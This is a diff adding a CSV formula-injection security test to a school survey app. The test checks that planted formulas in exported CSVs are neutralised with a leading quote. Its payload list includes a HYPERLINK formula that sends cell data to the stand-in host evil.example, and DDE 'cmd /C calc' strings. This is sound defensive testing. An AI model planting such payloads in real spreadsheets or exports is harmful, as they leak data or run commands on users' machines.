@@ -3,6 +3,7 @@ import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from
 import { buildApp } from '../../../server/app.ts'
 import type { Database } from '../../../server/db/schema.ts'
 import { createAuthService } from '../../../server/modules/auth/auth.service.ts'
+import { createOrganisationService } from '../../../server/modules/organisations/organisations.service.ts'
 import { generateResponses } from '../../../shared/domain/synthetic.ts'
 import { dlV1 } from '../../../shared/instrument/dl-v1.ts'
 import type { RoleId } from '../../../shared/instrument/types.ts'
@@ -92,6 +93,33 @@ describe.each(testDatabases())('attacks on %s', (kind) => {
     })
   })
 
+  describe('9.8 CSV formula injection', () => {
+    const FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"open")', '+cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\' /C calc\'!A0', '\t=1+1', '\r=1+1']
+
+    /** Every cell a spreadsheet would read that is text and begins like a formula. */
+    const formulaCells = (csv: string) =>
+      parseCsv(csv).flat().filter((cell) => /^[=+\-@\t\r]/.test(cell) && Number.isNaN(Number(cell)))
+
+    it.each(FORMULAS.map((f) => [JSON.stringify(f), f]))('a school leader plants %s in a survey title and a school name for the trust leader, and no export runs it', async (_, formula) => {
+      const res = await leader('POST', `/api/schools/${world.schoolA1}/surveys`, {
+        title: `${formula} survey`,
+        opensAt: new Date(now.getTime() - DAY).toISOString(),
+        closesAt: new Date(now.getTime() + 10 * DAY).toISOString(),
+      })
+      expect(res.statusCode).toBe(201)
+      const surveyId = (res.json() as { id: number }).id
+      await createOrganisationService({ db }).createSchool({ name: `${formula} school`, trustId: world.trustA })
+
+      const reportCsv = (await request('trustLeader', 'GET', `/api/surveys/${surveyId}/report.csv`)).body
+      const overviewCsv = (await request('trustLeader', 'GET', `/api/trusts/${world.trustA}/overview.csv`)).body
+      // the planted text is there (names are trimmed when stored), as text: a single quote in front
+      expect(parseCsv(reportCsv).flat()).toContain(`'${formula.trim()} survey`)
+      expect(parseCsv(overviewCsv).flat()).toContain(`'${formula.trim()} school`)
+      expect(formulaCells(reportCsv)).toEqual([])
+      expect(formulaCells(overviewCsv)).toEqual([])
+    })
+  })
+
   describe('9.11 one-time links', () => {
     const setPassword = (link: string, newPassword: string) =>
       app.inject({ method: 'POST', url: '/api/auth/password-links', payload: { token: link.split('#')[1], newPassword } })
@@ -131,3 +159,23 @@ describe.each(testDatabases())('attacks on %s', (kind) => {
     })
   })
 })
+
+/** RFC 4180 cells, as a spreadsheet program reads them (the byte-order mark dropped). */
+function parseCsv(text: string): string[][] {
+  const rows: string[][] = []
+  let row: string[] = []
+  let cell = ''
+  let quoted = false
+  for (let i = text.startsWith('\uFEFF') ? 1 : 0; i < text.length; i++) {
+    const c = text[i]!
+    if (quoted) {
+      if (c === '"' && text[i + 1] === '"') (cell += '"'), i++
+      else if (c === '"') quoted = false
+      else cell += c
+    } else if (c === '"') quoted = true
+    else if (c === ',') row.push(cell), (cell = '')
+    else if (c === '\r' && text[i + 1] === '\n') row.push(cell), rows.push(row), (row = []), (cell = ''), i++
+    else cell += c
+  }
+  return rows
+}
